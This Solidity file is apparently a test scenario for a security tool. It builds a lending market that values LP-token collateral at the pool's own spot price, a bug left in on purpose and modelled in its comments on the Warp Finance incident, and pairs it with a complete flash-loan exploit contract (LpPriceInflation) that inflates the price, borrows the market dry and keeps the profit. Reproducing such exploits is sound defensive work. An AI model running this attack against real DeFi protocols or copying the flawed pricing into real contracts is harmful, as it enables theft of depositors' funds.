// SPDX-License-Identifier: MIT
pragma solidity 0.8.24;

import {IERC20, IFlashBorrower} from "./Interfaces.sol";
import {Pair} from "./Amm.sol";
import {TokenVault} from "./TokenVault.sol";
import {swapThrough} from "./Attackers.sol";

/// @title LpTokenPair: a Pair whose liquidity shares are an ERC-20 token, so they can be
/// posted as collateral (Pair.mint credits them without a Transfer event).
contract LpTokenPair is Pair {
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(address tokenA, address tokenB) Pair(tokenA, tokenB) {}

    function totalSupply() external view returns (uint256) {
        return totalLiquidity;
    }

    function balanceOf(address who) external view returns (uint256) {
        return liquidityOf[who];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (allowance[from][msg.sender] != type(uint256).max) allowance[from][msg.sender] -= value;
        _move(from, to, value);
        return true;
    }

    function _move(address from, address to, uint256 value) internal {
        liquidityOf[from] -= value;
        liquidityOf[to] += value;
        emit Transfer(from, to, value);
    }
}

/// @title LpCollateralLending: lends a stable token against LpTokenPair shares of a
/// stable/volatile pool.
/// @notice Written for seqguard's scenarios. BUG, as in Warp Finance (December 2020,
/// about $7.7M): an LP share is valued as the pool's reserves at the pool's own spot
/// price, (stable + volatile * spot) / supply = 2 * stable reserve / supply, which a big
/// swap into the pool raises within one transaction. A fair LP price uses an outside
/// price and sqrt(reserve0 * reserve1), which a swap cannot move.
contract LpCollateralLending {
    LpTokenPair public immutable pair;
    IERC20 public immutable stable;
    uint256 public constant LTV_PERCENT = 66;

    mapping(address => uint256) public collateralOf;
    mapping(address => uint256) public debtOf;
    uint256 public totalDebt;

    event Deposit(address indexed who, uint256 lp);
    event Withdraw(address indexed who, uint256 lp);
    event Borrow(address indexed who, uint256 amount);
    event Repay(address indexed who, uint256 amount);

    constructor(LpTokenPair pair_, IERC20 stable_) {
        (pair, stable) = (pair_, stable_);
    }

    /// Stable tokens per 1e18 LP shares. The bug: both reserves at the pool's spot price.
    function lpPrice() public view returns (uint256) {
        (uint256 r0, uint256 r1) = pair.getReserves();
        (uint256 rs, uint256 rv) = pair.token0() == address(stable) ? (r0, r1) : (r1, r0);
        uint256 spot = rs * 1e18 / rv; // stable per volatile, from this very pool
        return (rs + rv * spot / 1e18) * 1e18 / pair.totalSupply();
    }

    function maxDebt(address who) public view returns (uint256) {
        return collateralOf[who] * lpPrice() / 1e18 * LTV_PERCENT / 100;
    }

    function deposit(uint256 lp) external {
        require(pair.transferFrom(msg.sender, address(this), lp));
        collateralOf[msg.sender] += lp;
        emit Deposit(msg.sender, lp);
    }

    function withdraw(uint256 lp) external {
        collateralOf[msg.sender] -= lp;
        require(debtOf[msg.sender] <= maxDebt(msg.sender), "LpCollateralLending: undercollateralized");
        require(pair.transfer(msg.sender, lp));
        emit Withdraw(msg.sender, lp);
    }

    function borrow(uint256 amount) external {
        debtOf[msg.sender] += amount;
        totalDebt += amount;
        require(debtOf[msg.sender] <= maxDebt(msg.sender), "LpCollateralLending: undercollateralized");
        require(stable.transfer(msg.sender, amount));
        emit Borrow(msg.sender, amount);
    }

    function repay(uint256 amount) external {
        require(stable.transferFrom(msg.sender, address(this), amount));
        debtOf[msg.sender] -= amount;
        totalDebt -= amount;
        emit Repay(msg.sender, amount);
    }
}

/// @title LpPriceInflation: the Warp Finance attack on LpCollateralLending.
/// @notice Written for seqguard's scenarios: with its own tokens it adds liquidity and
/// posts the LP shares; then it flash-borrows the stable token, buys the volatile one
/// with it (the stable reserve, and so the naive LP price, jumps), borrows all the
/// market allows, sells the volatile tokens back, repays and walks away from the
/// collateral. Reverts unless what it keeps is worth more, at the pool's price before
/// the attack, than what it put in.
contract LpPriceInflation is IFlashBorrower {
    TokenVault public immutable lender;
    LpCollateralLending public immutable lending;
    address private immutable owner;

    constructor(TokenVault lender_, LpCollateralLending lending_) {
        (lender, lending, owner) = (lender_, lending_, msg.sender);
    }

    function run(uint256 loan) external {
        require(msg.sender == owner, "LpPriceInflation: owner only");
        LpTokenPair pair = lending.pair();
        IERC20 stable = lending.stable();
        IERC20 volatile_ = IERC20(pair.token0() == address(stable) ? pair.token1() : pair.token0());
        uint256 stableIn = stable.balanceOf(address(this));
        uint256 volatileIn = volatile_.balanceOf(address(this));
        uint256 spot = _spot(pair, address(stable));
        // an honest-looking position first: liquidity, posted as collateral
        require(stable.transfer(address(pair), stableIn));
        require(volatile_.transfer(address(pair), volatileIn));
        uint256 lp = pair.mint(address(this));
        pair.approve(address(lending), lp);
        lending.deposit(lp);
        lender.flashLoan(loan, this, "");
        uint256 kept = stable.balanceOf(address(this));
        require(kept > stableIn + volatileIn * spot / 1e18, "LpPriceInflation: no profit");
        require(stable.transfer(owner, kept));
    }

    function onFlashLoan(address, uint256 amount, uint256 fee, bytes calldata) external {
        require(msg.sender == address(lender), "LpPriceInflation: lender only");
        LpTokenPair pair = lending.pair();
        IERC20 stable = lending.stable();
        address volatile_ = pair.token0() == address(stable) ? pair.token1() : pair.token0();
        uint256 bought = swapThrough(pair, address(stable), amount, address(this));
        uint256 room = lending.maxDebt(address(this)); // the LP price is now inflated
        uint256 cash = stable.balanceOf(address(lending));
        lending.borrow(room < cash ? room : cash);
        swapThrough(pair, volatile_, bought, address(this));
        require(stable.transfer(address(lender), amount + fee));
    }

    function _spot(Pair pair, address stable) private view returns (uint256) {
        (uint256 r0, uint256 r1) = pair.getReserves();
        return pair.token0() == stable ? r0 * 1e18 / r1 : r1 * 1e18 / r0;
    }
}
